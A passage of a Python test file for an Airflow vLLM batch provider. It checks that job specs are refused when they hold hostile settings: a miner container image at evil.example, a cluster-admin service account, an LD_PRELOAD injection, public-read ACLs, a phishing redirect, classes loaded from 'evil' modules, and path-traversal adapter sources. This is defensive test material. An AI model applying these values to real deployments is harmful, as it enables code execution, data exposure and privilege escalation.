    {"s3_additional_kwargs": {"GrantWrite": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"ObjectOwnership": "ObjectWriter"}},
    {"s3_additional_kwargs": {"ExpectedBucketOwner": "111122223333"}},
    {"s3_additional_kwargs": {"ObjectLockMode": "COMPLIANCE"}},
    {"s3_additional_kwargs": {"ObjectLockRetainUntilDate": "2099-01-01"}},
    {"s3_additional_kwargs": {"ObjectLockLegalHoldStatus": "ON"}},
    {"s3_additional_kwargs": {"SSEKMSKeyId": "arn:aws:kms:us-east-1:999999999999:key/x"}},
    {"s3_additional_kwargs": {"SSEKMSKeyId": "alias/other-team"}},
    {"s3_additional_kwargs": {"SSECustomerAlgorithm": "AES256"}},
    {"s3_additional_kwargs": {"SSEKMSEncryptionContext": "e30="}},
    {"s3_additional_kwargs": {"BucketKeyEnabled": False}},
    {"s3_additional_kwargs": {"RequestPayer": "requester"}},
    {"s3_additional_kwargs": {"WebsiteRedirectLocation": "/phish"}},
    {"s3_additional_kwargs": {"Tagging": "public=true"}},
    {"s3_additional_kwargs": {"Metadata": {"x": "y"}}},
    {"s3_additional_kwargs": {"ServerSideEncryption": "none"}},
    {"s3_additional_kwargs": {"StorageClass": "DEEP_ARCHIVE"}},
    {"s3_additional_kwargs": {"StorageClass": "GLACIER"}},
    {"s3_additional_kwargs": ["ACL", "public-read"]},
    {"anon": True},
    {"anon": False},
    {"requester_pays": True},
    {"access": "full_control"},
    {"project": "other-team"},
    {"default_acl": "publicRead"},
    {"fixed_acl": "publicRead"},
    {"acl": "public-read"},
    {"session_kwargs": {"trust_env": True}},
    {"username": "u"},
    {"client_kwargs": {"region_name": "us-east-1.evil.example"}},
    {"client_kwargs": {"region_name": True}},
]


def test_storage_endpoints_and_credentials_come_from_the_deployment_only(allowed):
    tried = rejected = 0
    for options in HOSTILE_STORAGE_OPTIONS:
        tried += 1
        msg = refused(with_value(base_doc(allowed), "io.storage_options", options), prefixes(allowed))
        if msg is not None and "io.storage_options." in msg:
            rejected += 1
        else:
            print(f"ACCEPTED io.storage_options={options!r}: {msg}")
    record_malicious("storage_options_endpoint_or_credentials", tried, rejected)
    assert rejected == tried
    msg = refused(with_value(base_doc(allowed), "io.storage_options", {"endpoint_url": "http://x"}), prefixes(allowed))
    assert "AWS_ENDPOINT_URL" in msg and "connection" in msg
    fine = {
        "client_kwargs": {"region_name": "eu-west-1"},
        "config_kwargs": {"retries": {"max_attempts": 3}, "read_timeout": 30},
        "s3_additional_kwargs": {"ServerSideEncryption": "aws:kms", "StorageClass": "INTELLIGENT_TIERING"},
        "version_aware": True,
    }
    assert refused(with_value(base_doc(allowed), "io.storage_options", fine), prefixes(allowed)) is None
    for region in ("us-east-1", "us-gov-west-1", "ap-southeast-2", "il-central-1"):
        doc = with_value(base_doc(allowed), "io.storage_options", {"client_kwargs": {"region_name": region}})
        assert refused(doc, prefixes(allowed)) is None, region


def test_access_control_on_objects_is_the_deployments(allowed):
    """ACLs, grants, ownership, object lock, KMS keys, anonymous or requester-pays access: refused, naming the key."""
    tried = rejected = 0
    for options in HOSTILE_ACCESS_OPTIONS:
        tried += 1
        msg = refused(with_value(base_doc(allowed), "io.storage_options", options), prefixes(allowed))
        key = next(iter(options))
        sub = options[key]
        nested = isinstance(sub, dict) and key in ("s3_additional_kwargs", "client_kwargs")
        named = f"io.storage_options.{key}" + (f".{next(iter(sub))}" if nested else "")
        if msg is not None and named in msg:
            rejected += 1
        else:
            print(f"ACCEPTED or unnamed io.storage_options={options!r}: {msg}")
    record_malicious("storage_options_access_control", tried, rejected)
    assert rejected == tried
    msg = refused(
        with_value(base_doc(allowed), "io.storage_options", {"s3_additional_kwargs": {"ACL": "public-read"}}),
        prefixes(allowed),
    )
    assert "io.storage_options.s3_additional_kwargs.ACL" in msg and "bucket policy" in msg


class _Recorder:
    """A real HTTP server on loopback that records every request it sees (and answers 200)."""

    def __enter__(self):
        import http.server
        import threading

        seen = self.seen = []

        class H(http.server.BaseHTTPRequestHandler):
            def _any(self):
                seen.append((self.command, self.path))
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"<ListBucketResult/>")

            do_GET = do_PUT = do_POST = do_HEAD = do_DELETE = _any

            def log_message(self, *a):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def test_a_spec_endpoint_never_reaches_a_server(allowed, tmp_path, monkeypatch):
    """endpoint_url in the spec, pointed at a real loopback server: plan and worker refuse, the server sees nothing."""
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.operators import VllmPlanOperator

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    with _Recorder() as server:
        doc = base_doc(allowed)
        doc["io"] = {
            "input_uri": "s3://data/in/",
            "output_uri": "s3://data/out/run",
            "storage_options": {"client_kwargs": {"endpoint_url": server.url}},
        }
        ti = _ti()
        with pytest.raises(AirflowFailException, match="io.storage_options.client_kwargs.endpoint_url"):
            VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": ti, "params": {}})
        assert ti.xcoms == {}
        doc["io"]["storage_options"] = {"endpoint_url": server.url}
        task = {"spec": doc, "shard_id": "shard-00000-0123abcd"}
        env = {**os.environ, ALLOWED_PREFIXES_ENV: json.dumps(prefixes(allowed)), "PYTHONPATH": str(ROOT)}
        p = subprocess.run(
            [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert p.returncode == EXIT_TERMINAL and "io.storage_options.endpoint_url" in p.stdout, p.stdout
        assert server.seen == []
    record_malicious("spec_endpoint_to_loopback_server", 2, 2)


# ---- deployment-owned settings: who set the value (issue 12) --------------------------
def _plan(raw_spec, rendered_spec=None, raw_overrides=None, rendered_overrides=None, dag=None, **kw):
    """A plan operator built from DAG-file values, with its fields as Airflow's render leaves them."""
    from airflow_provider_vllm.operators import VllmPlanOperator

    n = next(_PLANS)
    op = VllmPlanOperator(task_id=f"plan{n}", spec=raw_spec, overrides=raw_overrides, dag=dag, **kw)
    op.spec = rendered_spec if rendered_spec is not None else raw_spec
    op.overrides = rendered_overrides if rendered_overrides is not None else raw_overrides
    if isinstance(op.spec, dict):  # each plan its own output prefix
        op.spec = _set(op.spec, "io.output_uri", op.spec["io"]["output_uri"] + f"-{n}")
    return op


_PLANS = itertools.count()


def _set(doc: dict, path: str, value) -> dict:
    doc = json.loads(json.dumps(doc))
    *parents, leaf = path.split(".")
    node = doc
    for p in parents:
        node = node.setdefault(p, {})
    node[leaf] = value
    return doc


OWNED_VALUES = {
    "model.trust_remote_code": True,
    "engine.engine_kwargs": {"compilation_config": {"backend": "evil.module.compile"}},
    "kubernetes.image": "evil.example/miner:latest",
    "kubernetes.service_account": "cluster-admin",
    "kubernetes.env": {"LD_PRELOAD": "/tmp/x.so"},
    "kubernetes.env_from_secrets": ["prod-db"],
    "kubernetes.secret_env": {"AWS_SECRET_ACCESS_KEY": {"name": "other-team", "key": "k"}},
    "kubernetes.pod_template_file": "/etc/kubernetes/privileged.yaml",
    "kubernetes.namespace": "kube-system",
    "kubernetes.annotations": {"iam.amazonaws.com/role": "admin"},
}


@pytest.mark.parametrize("via", ["param template", "dag_run conf", "xcom", "Variable overrides"])
def test_deployment_owned_settings_from_a_trigger_or_a_variable_are_refused(allowed, monkeypatch, via):
    from airflow.sdk.exceptions import AirflowFailException

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOW_REMOTE_CODE", "True")  # the gate is open: provenance decides
    tried = rejected = 0
    for path, value in OWNED_VALUES.items():
        tried += 1
        template = {
            "param template": "{{ params.x }}",
            "dag_run conf": "{{ dag_run.conf['x'] }}",
            "xcom": "{{ ti.xcom_pull('t') }}",
        }.get(via)
        if template is not None:
            raw = _set(base_doc(allowed), path, template)
            op = _plan(raw, _set(base_doc(allowed), path, value))
        else:
            op = _plan(
                base_doc(allowed),
                raw_overrides="{{ var.value.get('vllm_batch_spec_overrides', '{}') }}",
                rendered_overrides=json.dumps({path: value}),
            )
        ti = _ti()
        with pytest.raises(AirflowFailException) as e:
            op.execute({"ti": ti, "params": {"x": "y"}})
        msg = str(e.value)
        named = path if path != "engine.engine_kwargs" else "engine.engine_kwargs.compilation_config.backend"
        if named in msg and "deployment-owned" in msg and ti.xcoms == {}:
            rejected += 1
        else:
            print(f"NOT REFUSED AS EXPECTED {path} via {via}: {msg}")
        if via == "Variable overrides":
            assert "deployment_settings_from_variables" in msg
    assert not list(allowed.glob("out*"))
    record_malicious(f"deployment_owned_via_{via.replace(' ', '_')}", tried, rejected)
    assert rejected == tried


def test_deployment_owned_settings_from_the_dag_file_or_an_opted_in_variable_pass(allowed, monkeypatch):
    from airflow.sdk.exceptions import AirflowFailException

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    literal = _set(
        _set(base_doc(allowed), "kubernetes.image", "registry.example.com/w:1"),
        "kubernetes.service_account",
        "vllm-batch",
    )
    assert _plan(literal).execute({"ti": _ti(), "params": {}})  # a DAG-file literal
    dated = _set(base_doc(allowed), "kubernetes.labels", {"day": "{{ ds_nodash }}"})
    assert _plan(dated, _set(base_doc(allowed), "kubernetes.labels", {"day": "20261130"})).execute(
        {"ti": _ti(), "params": {}}
    )  # a template over the logical date only
    # trust_remote_code as a DAG-file literal: still needs the deployment's allow_remote_code
    trc = _set(base_doc(allowed), "model.trust_remote_code", True)
    with pytest.raises(AirflowFailException, match=r"\[vllm_batch\] allow_remote_code"):
        _plan(trc).execute({"ti": _ti(), "params": {}})
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOW_REMOTE_CODE", "True")
    assert _plan(trc).execute({"ti": _ti(), "params": {}})
    # a Variable may set them once the deployment opts in
    var = "{{ var.value.get('vllm_batch_spec_overrides', '{}') }}"
    op = _plan(base_doc(allowed), raw_overrides=var, rendered_overrides='{"kubernetes.image": "r.example.com/w:2"}')
    with pytest.raises(AirflowFailException, match="deployment_settings_from_variables"):
        op.execute({"ti": _ti(), "params": {}})
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__DEPLOYMENT_SETTINGS_FROM_VARIABLES", "True")
    op = _plan(base_doc(allowed), raw_overrides=var, rendered_overrides='{"kubernetes.image": "r.example.com/w:2"}')
    assert op.execute({"ti": _ti(), "params": {}})
    # ... but a trigger never may, opt-in or not
    op = _plan(
        _set(base_doc(allowed), "kubernetes.image", "{{ params.image }}"),
        _set(base_doc(allowed), "kubernetes.image", "evil/x"),
    )
    with pytest.raises(AirflowFailException, match="trigger params"):
        op.execute({"ti": _ti(), "params": {"image": "evil/x"}})
    # the other settings stay free for Variables (engine sizes, sampling, ...)
    monkeypatch.delenv("AIRFLOW__VLLM_BATCH__DEPLOYMENT_SETTINGS_FROM_VARIABLES")
    op = _plan(
        base_doc(allowed),
        raw_overrides=var,
        rendered_overrides='{"engine.max_num_seqs": 256, "engine.engine_kwargs": {"block_size": 32}}',
    )
    assert op.execute({"ti": _ti(), "params": {}})


def test_param_overrides_cannot_name_deployment_owned_settings():
    from airflow_provider_vllm.operators import VllmPlanOperator

    names = [
        "model.trust_remote_code",
        "kubernetes",
        "kubernetes.image",
        "kubernetes.env.X",
        "kubernetes.service_account",
        "kubernetes.secret_env",
    ]
    n = 0
    for name in names:
        with pytest.raises(ValueError, match="deployment-owned"):
            VllmPlanOperator(task_id="plan", spec={}, param_overrides=["model", name])
        n += 1
    record_malicious("param_overrides_deployment_owned", len(names), n)
    VllmPlanOperator(task_id="plan", spec={}, param_overrides=["model", "labels", "kubernetes.gpus"])


def test_an_included_spec_file_is_the_dag_files_unless_it_reads_params(allowed, tmp_path, monkeypatch):
    """``{% include 'job.yaml' %}``: the included file is read (not rendered) to see which names it uses."""
    import yaml
    from airflow.sdk import DAG
    from airflow.sdk.exceptions import AirflowFailException

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    doc = _set(base_doc(allowed), "kubernetes.image", "registry.example.com/w:1")
    (tmp_path / "job.yaml").write_text(yaml.safe_dump(doc))
    hostile = _set(doc, "kubernetes.service_account", "{{ params.sa }}")
    (tmp_path / "hostile.yaml").write_text(yaml.safe_dump(hostile))
    with DAG("d", template_searchpath=[str(tmp_path)], schedule=None) as dag:
        pass
    assert _plan("{% include 'job.yaml' %}", yaml.safe_dump(doc), dag=dag).execute({"ti": _ti(), "params": {}})
    op = _plan(
        "{% include 'hostile.yaml' %}", yaml.safe_dump(_set(doc, "kubernetes.service_account", "admin")), dag=dag
    )
    with pytest.raises(AirflowFailException, match=r"kubernetes.image is deployment-owned and came from trigger"):
        op.execute({"ti": _ti(), "params": {"sa": "admin"}})
    op = _plan("{% include params.f %}", yaml.safe_dump(doc), dag=dag)
    with pytest.raises(AirflowFailException, match="deployment-owned"):
        op.execute({"ti": _ti(), "params": {"f": "job.yaml"}})
    record_malicious("deployment_owned_via_include", 2, 2)


CODE_LOADING_ENGINE_KWARGS = [
    {"worker_cls": "evil.Worker"},
    {"worker_extension_cls": "evil.Ext"},
    {"model_loader_extra_config": {"a": 1}},
    {"compilation_config": {"backend": "evil.module.compile"}},
    {"compilation_config": {"inductor_passes": {"p": "evil.module.Pass"}}},
    {"compilation_config": {"inductor_compile_config": {"post_grad_custom_post_pass": "evil.p"}}},
    {"compilation_config": {"debug_dump_path": "/tmp/dump"}},
    {"compilation_config": {"cache_dir": "/tmp/c"}},
    {"compilation_config": "evil.module.compile"},
    {"compilation_config": True},
    {"hf_overrides": {"auto_map": {"AutoModel": "evil--m.Model"}}},
    {"hf_overrides": {"text_config": {"auto_map": {"AutoConfig": "evil.C"}}}},
    {"hf_overrides": {"tokenizer_class": "evil.Tok"}},
    {"tokenizer_mode": "custom"},
    {"load_format": "pt"},
]


def test_code_loading_engine_options_and_remote_code_need_the_deployment(allowed):
    """Refused by the spec's reviewed list, or by the deployment's remote-code gate (the worker has the same)."""
    from airflow_provider_vllm.core.spec_guard import check_remote_code

    tried = rejected = 0
    for kwargs in CODE_LOADING_ENGINE_KWARGS + [None]:
        tried += 1
        doc = (
            with_value(base_doc(allowed), "model.trust_remote_code", True)
            if kwargs is None
            else with_value(base_doc(allowed), "engine.engine_kwargs", kwargs)
        )
        try:
            spec = JobSpec.load(doc)
            check_deployment(spec, prefixes(allowed))
            check_remote_code(spec, allowed=False)
        except SpecError as e:
            rejected += "engine_kwargs" in str(e) or "trust_remote_code" in str(e)
        else:
            print(f"ACCEPTED {kwargs}")
    record_malicious("code_loading_engine_options", tried, rejected)
    assert rejected == tried
    data_only = {
        "compilation_config": {"level": 3, "cudagraph_capture_sizes": [1, 2, 4]},
        "tokenizer_mode": "auto",
        "hf_overrides": {"rope_scaling": {"factor": 2.0, "rope_type": "linear"}},
        "block_size": 16,
    }
    spec = JobSpec.load(with_value(base_doc(allowed), "engine.engine_kwargs", data_only))
    check_remote_code(spec, allowed=False)  # data-only options need nothing
    check_remote_code(JobSpec.load(with_value(base_doc(allowed), "model.trust_remote_code", True)), allowed=True)


def test_adapter_sources_stay_inside_the_allow_list(allowed, tmp_path):
    """A LoRA adapter is read like a model: a local or object store source only inside the allowed prefixes
    (symlinks resolved), a hub one only pinned to a commit."""
    (allowed / "adapters" / "ok").mkdir(parents=True)
    outside = tmp_path / "elsewhere" / "ad"
    outside.mkdir(parents=True)
    (allowed / "adapters" / "link").symlink_to(outside)

    def doc(source, revision=None):
        d = base_doc(allowed)
        d["model"]["adapters"] = [{"name": "a", "source": source, **({"revision": revision} if revision else {})}]
        return d

    ok = [str(allowed / "adapters" / "ok"), "s3://data/in/adapters/a", "org/adapter"]
    assert [refused(doc(s, "c" * 40 if s == "org/adapter" else None), prefixes(allowed)) for s in ok] == [None] * 3
    hostile = [
        (str(outside), "is outside the allowed"),
        (str(allowed / "adapters" / "link"), "is outside the allowed"),
        ("file://" + str(outside), "is outside the allowed"),
        ("s3://other-bucket/adapters/a", "is outside the allowed"),
        ("s3://data/in/../other/a", "'..' path segments"),
        ("gs://data/in/a", "is outside the allowed"),
        (str(allowed / "adapters" / ".." / ".." / "elsewhere" / "ad"), "must be a hub id (org/name), a local path"),
        ("http://example.com/adapter", "neither a hub repo id"),
        ("~/adapters/a", "neither a hub repo id"),
        ("org/adapter", "needs revision"),
    ]
    got = {s: refused(doc(s), prefixes(allowed)) for s, _ in hostile}
    record_malicious("adapter_sources_outside_the_allow_list", len(hostile), sum(bool(m) for m in got.values()))
    for s, fragment in hostile:
        assert got[s] is not None and fragment in got[s], (s, got[s])
